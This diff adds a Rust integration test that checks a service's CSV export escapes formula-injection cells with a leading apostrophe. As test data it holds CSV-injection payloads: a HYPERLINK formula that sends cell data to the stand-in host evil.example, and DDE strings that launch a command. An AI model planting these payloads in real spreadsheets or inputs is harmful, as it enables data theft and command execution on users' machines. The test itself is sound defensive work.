@@ -529,3 +529,56 @@ async fn stalled_exports_are_bounded_and_released() {
     drop(stalled);
     h.stop().await;
 }
+
+/// A cell a spreadsheet would evaluate (`=HYPERLINK(…)` sends data away on a click) comes out
+/// with a leading `'` (OWASP, CSV injection); it was written as it was.
+#[tokio::test]
+async fn csv_cells_that_start_a_formula_are_neutralised() {
+    let h = Harness::new().await;
+    let t = h.tenant(Plan::Enterprise).await;
+    let hyperlink = r#"=HYPERLINK("http://evil.example/?d="&A1,"Open")"#;
+    for (email, first, last) in [
+        ("f1@x.io", hyperlink, "+1+cmd|' /C calc'!A0"),
+        ("f2@x.io", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"),
+        ("f3@x.io", "Plain", "O'Neil = fine"),
+    ] {
+        let res = h
+            .post_json(
+                &t.write,
+                "/api/v1/identify",
+                &json!({"email": email, "first_name": first, "last_name": last}),
+            )
+            .await;
+        assert!(res.status().is_success(), "{}", res.status());
+    }
+    let res = h
+        .post_json(
+            &t.write,
+            "/api/v1/events",
+            &json!({"email": "f1@x.io", "event": "=1+1"}),
+        )
+        .await;
+    assert_eq!(res.status(), 200);
+
+    let res = export(&h, &t.admin, "?format=csv").await;
+    assert_eq!(res.status(), 200);
+    assert_eq!(res.headers()["content-type"], "application/zip");
+    let files = unzip(&res.bytes().await.unwrap());
+    let names: Vec<(&str, &str, &str)> = files["contacts.csv"][1..]
+        .iter()
+        .map(|row| (row[1].as_str(), row[2].as_str(), row[3].as_str()))
+        .collect();
+    let neutral = format!("'{hyperlink}");
+    assert_eq!(
+        names,
+        [
+            ("f1@x.io", neutral.as_str(), "'+1+cmd|' /C calc'!A0"),
+            ("f2@x.io", "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3"),
+            ("f3@x.io", "Plain", "O'Neil = fine"),
+        ]
+    );
+    assert_eq!(files["events.csv"][1][2], "'=1+1");
+    // The header row is the service's own and stays as it is.
+    assert_eq!(files["contacts.csv"][0][1], "email");
+    h.stop().await;
+}
